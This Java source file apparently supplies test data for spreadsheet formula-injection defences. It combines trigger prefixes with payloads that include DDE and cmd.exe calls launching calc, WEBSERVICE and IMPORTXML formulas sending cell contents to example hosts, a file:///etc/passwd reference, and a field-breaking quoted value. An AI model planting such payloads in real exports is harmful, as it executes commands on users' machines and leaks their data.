package nl.duaal.tabular;

import java.util.ArrayList;
import java.util.List;

/** 120 texts that a careless spreadsheet would take for a formula or a command. */
final class Formulas {

    private static final List<String> STARTS =
            List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "  =");

    private static final List<String> COMMANDS = List.of(
            "1+1",
            "HYPERLINK(\"http://example.org\",\"klik\")",
            "cmd|' /C calc'!A0",
            "WEBSERVICE(\"http://localhost:9/\"&A1)",
            "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
            "SUM(A1:A9)*2",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "'file:///etc/passwd'#$passwd.A1",
            "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
            "2\",\"=1+1");

    static final List<String> ALL = all();

    private Formulas() {}

    private static List<String> all() {
        var all = new ArrayList<String>();
        for (String start : STARTS) COMMANDS.forEach(command -> all.add(start + command));
        return List.copyOf(all);
    }
}
